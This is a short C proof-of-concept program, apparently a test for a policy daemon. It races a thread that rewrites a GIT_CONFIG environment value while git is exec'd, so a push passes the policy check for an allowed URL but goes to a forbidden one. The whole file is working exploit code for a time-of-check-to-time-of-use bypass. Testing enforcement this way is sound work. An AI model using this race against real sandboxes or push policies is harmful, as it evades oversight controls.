/* Attack: an exec of git decided on its environment while a second thread
 * rewrites that environment's memory between policyd's read and the
 * kernel's copy: `git push origin HEAD:raced` with GIT_CONFIG_* setting
 * remote.origin.pushurl, which flips between OK (where the policy lets a
 * push go) and BAD (where it does not; the same length). Each try is a
 * child that starts the flipping thread and execs git (git itself starts
 * no other git for a push: its receive-pack is not a push). Natively it
 * pushes to BAD within a few tries. Built -static: the kernel path.
 * Usage: static_env_race GIT OK BAD TRIES (in a repository with a remote
 * "origin"). Prints "pushed (try N)" or "refused: N tries". */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PFX "GIT_CONFIG_VALUE_0="
static char value[4200] = PFX;
static const char *urls[2];
static size_t ulen;
static volatile unsigned long flips;

static void *flip(void *arg)
{
	(void)arg;
	for (unsigned long i = 0;; i++) {
		memcpy(value + sizeof(PFX) - 1, urls[i & 1], ulen);
		flips = i;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5 || strlen(argv[2]) != strlen(argv[3]) ||
	    strlen(argv[2]) > 4096)
		return 2;
	const char *git = argv[1];
	urls[0] = argv[2];
	urls[1] = argv[3];
	ulen = strlen(argv[2]);
	memcpy(value + sizeof(PFX) - 1, urls[0], ulen + 1);
	char ref[4200];
	snprintf(ref, sizeof(ref), "%s/refs/heads/raced", argv[3]);
	int tries = atoi(argv[4]), i;
	for (i = 0; i < tries; i++) {
		pid_t c = fork();
		if (c == 0) {
			int dn = open("/dev/null", O_WRONLY);
			dup2(dn, 1);
			dup2(dn, 2);
			pthread_t t;
			pthread_create(&t, NULL, flip, NULL);
			while (flips < 1000)
				sched_yield();
			char *env[] = {"GIT_CONFIG_COUNT=1",
				       "GIT_CONFIG_KEY_0=remote.origin.pushurl",
				       value, "HOME=/nonexistent", NULL};
			char *av[] = {"git", "push", "-q", "origin",
				      "HEAD:raced", NULL};
			execve(git, av, env);
			_exit(127);
		}
		int st;
		waitpid(c, &st, 0);
		if (access(ref, F_OK) == 0) {
			printf("pushed (try %d)\n", i);
			return 0;
		}
	}
	printf("refused: %d tries\n", i);
	return 1;
}
